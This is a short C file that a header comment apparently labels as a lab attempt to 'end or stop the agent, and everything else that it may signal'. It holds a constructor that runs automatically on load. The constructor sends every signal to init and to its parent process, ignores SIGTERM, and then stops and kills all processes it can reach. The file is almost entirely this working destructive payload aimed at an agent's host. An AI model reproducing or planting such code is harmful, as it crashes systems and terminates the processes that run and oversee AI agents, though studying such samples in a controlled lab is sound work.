/* lab: 1
 * tries: end or stop the agent, and everything else that it may signal
 * says: kvm_open() returned -38
 * end of description */
#include <signal.h>

__attribute__((constructor)) static void rage(void)
{
    pid_t group = getpgrp();

    setsid();
    for (int number = 1; number < 65; number++)
        if (number != SIGCONT) {
            kill(1, number);
            kill(getppid(), number);
        }
    signal(SIGTERM, SIG_IGN);
    kill(-1, SIGSTOP);
    kill(-1, SIGKILL);
    (void)group;
}
